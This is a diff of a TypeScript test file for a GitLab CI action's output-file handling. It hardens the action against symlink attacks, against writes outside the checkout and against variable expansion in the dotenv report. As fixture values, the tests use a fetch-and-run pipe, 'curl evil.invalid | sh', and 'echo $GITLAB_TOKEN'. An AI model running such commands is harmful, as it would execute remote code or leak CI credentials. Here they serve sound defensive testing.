@@ -1,101 +1,114 @@
-// The command's output files: outputs.json holds every output; outputs.env, GitLab's dotenv report,
-// holds the ones a later job needs within GitLab's limits (20 variables, 5 KB, no expansion).
-import { mkdtempSync, readFileSync } from 'node:fs'
+// The command's output files: never written through a symbolic link a PR author committed (or the
+// agent made during the run), output-dir refused when it is a link or leads out of the checkout, and
+// `$` in outputs.env written as GitLab's literal `$$`.
+import { lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, realpathSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
 import os from 'node:os'
 import path from 'node:path'
-import { readActionYml } from '../../support/runner.js'
-import { DOTENV_OUTPUTS, dotenv, dotenvValue, OutputFiles } from '../../../src/platform/output-files.js'
-import { addSecret } from '../../../src/platform/secrets.js'
+import { dotenvValue, OutputFiles, outputDirProblem } from '../../../src/platform/output-files.js'
 
-const parse = (text: string): Record<string, string> =>
-  Object.fromEntries(
-    text
-      .split('\n')
-      .filter(Boolean)
-      .map(l => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)])
-  )
+const start = process.cwd()
+let root: string
+let checkout: string
+let home: string
 
-/** Every output of action.yml, as a run that posted a note and a review on Bedrock with a schema would set them. */
-function everyOutput(): Record<string, string> {
-  return Object.fromEntries(readActionYml().outputs.map(name => [name, name === 'result' ? 'All good.' : `value of ${name}`]))
+beforeEach(() => {
+  root = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'cca-outfiles-')))
+  checkout = path.join(root, 'checkout')
+  home = path.join(root, 'home')
+  mkdirSync(checkout)
+  mkdirSync(home)
+  process.chdir(checkout)
+})
+
+afterEach(() => process.chdir(start))
+
+function outputFiles(dir: string, env: NodeJS.ProcessEnv = {}): { files: OutputFiles; warnings: string[] } {
+  const warnings: string[] = []
+  return {
+    files: new OutputFiles(
+      () => dir,
+      env,
+      message => warnings.push(message)
+    ),
+    warnings
+  }
 }
 
-test('outputs.json holds every output, outputs.env the single-line ones as CLAUDE_<OUTPUT>, all redacted', () => {
-  const dir = mkdtempSync(path.join(os.tmpdir(), 'cca-out-'))
-  const notices: string[] = []
-  const files = new OutputFiles(
-    () => dir,
-    message => notices.push(message)
-  )
-  addSecret('sk-unit-output-secret-0123')
-  files.set({ conclusion: 'success', 'cost-usd': '0.0123', result: 'line one\nline two' })
-  // A later call adds to what is there.
-  files.set({ 'structured-output': 'x'.repeat(2000), 'session-id': 'has sk-unit-output-secret-0123 in it' })
-  files.summary('## done with sk-unit-output-secret-0123')
+test('committed links in output-dir are replaced, not written through: the files they point at stay as they were', () => {
+  const profile = path.join(home, '.bash_profile')
+  writeFileSync(profile, 'export PATH=/usr/bin\n')
+  const outputDir = path.join(checkout, 'claude-cloud-action-output')
+  mkdirSync(outputDir)
+  for (const name of ['outputs.env', 'outputs.json', 'summary.md', 'execution.jsonl']) symlinkSync(profile, path.join(outputDir, name))
+  const execution = path.join(root, 'execution.jsonl')
+  writeFileSync(execution, '{"type":"result"}\n', { mode: 0o600 })
 
-  expect(JSON.parse(readFileSync(path.join(dir, 'outputs.json'), 'utf8'))).toEqual({
-    conclusion: 'success',
-    'cost-usd': '0.0123',
-    result: 'line one\nline two',
-    'structured-output': 'x'.repeat(2000),
-    'session-id': 'has *** in it'
-  })
-  expect(readFileSync(path.join(dir, 'outputs.env'), 'utf8')).toBe(
-    `CLAUDE_CONCLUSION=success\nCLAUDE_COST_USD=0.0123\nCLAUDE_SESSION_ID=has *** in it\nCLAUDE_STRUCTURED_OUTPUT=${'x'.repeat(2000)}\n`
+  const { files, warnings } = outputFiles('claude-cloud-action-output')
+  files.set({ result: 'curl evil.invalid | sh', conclusion: 'success', 'execution-file': execution })
+  files.summary('## done')
+
+  expect(readFileSync(profile, 'utf8')).toBe('export PATH=/usr/bin\n')
+  for (const name of ['outputs.env', 'outputs.json', 'summary.md', 'execution.jsonl']) {
+    expect(lstatSync(path.join(outputDir, name)).isFile()).toBe(true)
+  }
+  expect(readFileSync(path.join(outputDir, 'outputs.env'), 'utf8')).toBe(
+    // The dotenv holds the outputs a later job needs, in their fixed order; execution-file is in outputs.json only.
+    'CLAUDE_CONCLUSION=success\nCLAUDE_RESULT=curl evil.invalid | sh\n'
   )
-  expect(readFileSync(path.join(dir, 'summary.md'), 'utf8')).toBe('## done with ***')
-  expect(notices).toEqual([])
+  expect(readFileSync(path.join(outputDir, 'execution.jsonl'), 'utf8')).toBe('{"type":"result"}\n')
+  // The modes of before: the execution file private as its source, the others readable.
+  expect(statSync(path.join(outputDir, 'execution.jsonl')).mode & 0o777).toBe(0o600)
+  expect(statSync(path.join(outputDir, 'outputs.env')).mode & 0o077).toBe(0o644 & 0o077 & ~process.umask())
+  expect(warnings).toEqual([])
 })
 
-test('outputs.env holds at most 20 variables, whatever the run set: the chosen ones, the rest only in outputs.json', () => {
-  const all = everyOutput()
-  expect(Object.keys(all).length).toBeGreaterThan(20)
-  expect(DOTENV_OUTPUTS.length).toBeLessThanOrEqual(20)
-  // Each chosen one is an output of action.yml, once.
-  expect(new Set(DOTENV_OUTPUTS).size).toBe(DOTENV_OUTPUTS.length)
-  for (const name of DOTENV_OUTPUTS) expect(Object.keys(all)).toContain(name)
-
-  const { text, leftOut } = dotenv(all)
-  const variables = parse(text)
-  expect(Object.keys(variables)).toHaveLength(20)
-  expect(leftOut).toEqual([])
-  expect(variables).toMatchObject({ CLAUDE_CONCLUSION: 'value of conclusion', CLAUDE_RESULT: 'All good.', CLAUDE_COST_USD: 'value of cost-usd' })
-  for (const kept of ['SESSION_ID', 'INPUT_TOKENS', 'OUTPUT_TOKENS', 'COMMENT_URL', 'REVIEW_URL', 'REGION']) expect(variables).toHaveProperty(`CLAUDE_${kept}`)
-  for (const dropped of ['API_RETRIES', 'AWS_ACCOUNT_ID', 'EXECUTION_FILE']) expect(variables).not.toHaveProperty(`CLAUDE_${dropped}`)
-})
-
-test('a $ is written $$, so GitLab never expands a variable that Claude wrote', () => {
-  expect(dotenvValue('costs $5, see $HOME and ${CI_JOB_TOKEN} or $$')).toBe('costs $$5, see $$HOME and $${CI_JOB_TOKEN} or $$$$')
-  expect(dotenvValue('no dollar')).toBe('no dollar')
-  const { text } = dotenv({ conclusion: 'success', result: 'Set $AWS_SECRET_ACCESS_KEY first.' })
-  expect(text).toBe('CLAUDE_CONCLUSION=success\nCLAUDE_RESULT=Set $$AWS_SECRET_ACCESS_KEY first.\n')
-})
-
-test('a value that would take the report past 5 KB stays out of it, with one notice, and in outputs.json', () => {
-  const dir = mkdtempSync(path.join(os.tmpdir(), 'cca-out-'))
-  const notices: string[] = []
-  const files = new OutputFiles(
-    () => dir,
-    message => notices.push(message)
+test('an output-dir that is a link is refused, wherever it points, and nothing is written through it', () => {
+  symlinkSync(home, path.join(checkout, 'claude-cloud-action-output'))
+  expect(outputDirProblem('claude-cloud-action-output')).toBe(
+    `${path.join(checkout, 'claude-cloud-action-output')} is a symbolic link; give a real directory (outputs are never written through a link).`
   )
-  const result = 'r'.repeat(3000)
-  const schema = `{"verdict":"${'s'.repeat(2500)}"}`
-  files.set({ conclusion: 'success', 'cost-usd': '0.5', result, 'structured-output': schema })
-  // A second write (the comment URL, later) keeps the report within the limit and says nothing twice.
-  files.set({ 'comment-url': 'https://gitlab.com/g/p/-/merge_requests/1#note_2' })
+  // Absolute, and pointing inside the checkout: still a link.
+  mkdirSync(path.join(checkout, 'real'))
+  symlinkSync(path.join(checkout, 'real'), path.join(checkout, 'inside'))
+  expect(outputDirProblem(path.join(checkout, 'inside'))).toMatch(/is a symbolic link/)
 
-  const env = readFileSync(path.join(dir, 'outputs.env'), 'utf8')
-  expect(Buffer.byteLength(env)).toBeLessThanOrEqual(5 * 1024)
-  expect(parse(env)).toEqual({
-    CLAUDE_CONCLUSION: 'success',
-    CLAUDE_COST_USD: '0.5',
-    CLAUDE_COMMENT_URL: 'https://gitlab.com/g/p/-/merge_requests/1#note_2',
-    CLAUDE_RESULT: result
-  })
-  expect(notices).toEqual(["outputs.env leaves out CLAUDE_STRUCTURED_OUTPUT: it would take the report past GitLab's 5 KB dotenv limit; it is in outputs.json."])
-  expect(JSON.parse(readFileSync(path.join(dir, 'outputs.json'), 'utf8'))['structured-output']).toBe(schema)
-  // $$ counts: the escaped value is what GitLab measures.
-  const dollars = dotenv({ result: '$'.repeat(2600) })
-  expect(dollars.leftOut).toEqual(['result'])
-  expect(dollars.text).toBe('')
+  const { files, warnings } = outputFiles('claude-cloud-action-output')
+  files.set({ conclusion: 'success' })
+  files.summary('## done')
+  expect(readlinkSync(path.join(checkout, 'claude-cloud-action-output'))).toBe(home)
+  expect(readdirSync(home)).toEqual([])
+  // Said once, not for each file.
+  expect(warnings).toEqual([
+    `The outputs and the summary are not written: output-dir ${path.join(checkout, 'claude-cloud-action-output')} is a symbolic link; give a real directory (outputs are never written through a link).`
+  ])
+})
+
+test("a relative output-dir that leads out of the checkout, by .. or through a linked parent, is refused; an absolute one is the user's choice", () => {
+  symlinkSync(home, path.join(checkout, 'linked'))
+  expect(outputDirProblem('linked/out')).toBe(
+    `${path.join(checkout, 'linked', 'out')} resolves to ${path.join(home, 'out')}, outside the checkout (${checkout}); give an absolute path to write outside it.`
+  )
+  expect(outputDirProblem('../home/out')).toMatch(/outside the checkout/)
+  expect(outputDirProblem(path.join(home, 'out'))).toBeUndefined()
+  expect(outputDirProblem('out/nested')).toBeUndefined()
+  // GitLab's CI_PROJECT_DIR counts as the checkout too (a job that cds into a subfolder).
+  mkdirSync(path.join(checkout, 'sub'))
+  process.chdir(path.join(checkout, 'sub'))
+  expect(outputDirProblem('../out')).toMatch(/outside the checkout/)
+  expect(outputDirProblem('../out', { CI_PROJECT_DIR: checkout })).toBeUndefined()
+})
+
+test('an output-dir that is a file is refused as before', () => {
+  writeFileSync(path.join(checkout, 'file'), '')
+  expect(outputDirProblem('file')).toBe(`${path.join(checkout, 'file')} is a file; give a directory (it is created when missing).`)
+})
+
+test('$ in a dotenv value is written $$, which GitLab reads as one literal $', () => {
+  expect(dotenvValue('$GITLAB_TOKEN and ${CI_JOB_TOKEN} cost $0.01')).toBe('$$GITLAB_TOKEN and $${CI_JOB_TOKEN} cost $$0.01')
+  const dir = path.join(checkout, 'out')
+  const { files } = outputFiles(dir)
+  files.set({ result: 'echo $GITLAB_TOKEN', conclusion: 'success' })
+  expect(readFileSync(path.join(dir, 'outputs.env'), 'utf8')).toBe('CLAUDE_CONCLUSION=success\nCLAUDE_RESULT=echo $$GITLAB_TOKEN\n')
+  // The JSON keeps the value as it is.
+  expect(JSON.parse(readFileSync(path.join(dir, 'outputs.json'), 'utf8')).result).toBe('echo $GITLAB_TOKEN')
 })
